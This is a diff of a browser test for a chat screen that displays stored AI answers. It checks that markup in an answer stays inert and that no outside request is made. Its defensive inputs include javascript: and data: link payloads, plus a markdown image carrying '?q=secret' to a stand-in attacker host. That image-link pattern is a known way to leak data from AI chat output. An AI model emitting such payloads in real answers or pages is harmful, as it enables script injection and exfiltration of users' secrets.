@@ -9,6 +9,7 @@ import {
   openConsultant,
   streamAnswer,
 } from "#tests/support/screens/consultant.ts";
+import { elsewhere, watchElsewhere } from "#tests/support/screens/elsewhere.ts";
 import { expectTexts } from "#tests/support/screens/lists.ts";
 import { failRequests, holdRequests, network, restoreNetwork } from "#tests/support/screens/network.ts";
 import { expectCount, expectToast, toast } from "#tests/support/screens/parts.ts";
@@ -163,7 +164,7 @@ test("cites its sources by numbers that say their names, with their dates below"
 
 test("nothing in a stored answer acts", async ({ person }) => {
   const response = [
-    "Start <b>bold</b> <em>tag</em> ![picture](https://evil.example/p.png?q=secret)",
+    `Start <b>bold</b> <em>tag</em> ![picture](${elsewhere}/p.png?q=secret)`,
     "[run](javascript:alert(1)) [mail](mailto:a@b.example) [data](data:text/html,x) [here](/sop) [out](https://example.org)",
     "[JaVa](JaVaScRiPt&colon;alert(1)) <https://auto.example> [ref][1]",
     "# Large\n\n> quoted\n\n`code` ***",
@@ -172,13 +173,7 @@ test("nothing in a stored answer acts", async ({ person }) => {
     "- [x] task\n\n---\n\n```html\n<i>fenced</i>\n```\n\nEnd",
   ].join("\n\n");
   await storeChats(person, [{ said: [{ message: "<b>Mine</b> **plain** [x](https://example.org)", response }] }]);
-  let isEvilAsked = false;
-  network.use(
-    http.all("https://evil.example/*", () => {
-      isEvilAsked = true;
-      return HttpResponse.error();
-    }),
-  );
+  const expectNothingAsked = watchElsewhere();
   await openConsultant(person);
   const { turns } = consultant;
   await expect.element(turns).toMatchTextContent("End");
@@ -188,7 +183,7 @@ test("nothing in a stored answer acts", async ({ person }) => {
   expect(turns.element().querySelector(acting)).toBeNull();
   await expect.element(turns).toMatchTextContent("run mail data here out");
   await expect.element(turns).toMatchTextContent("Large");
-  expect(isEvilAsked).toBe(false);
+  await expectNothingAsked();
 });
 
 test("every line is written in its own direction", async ({ person }) => {
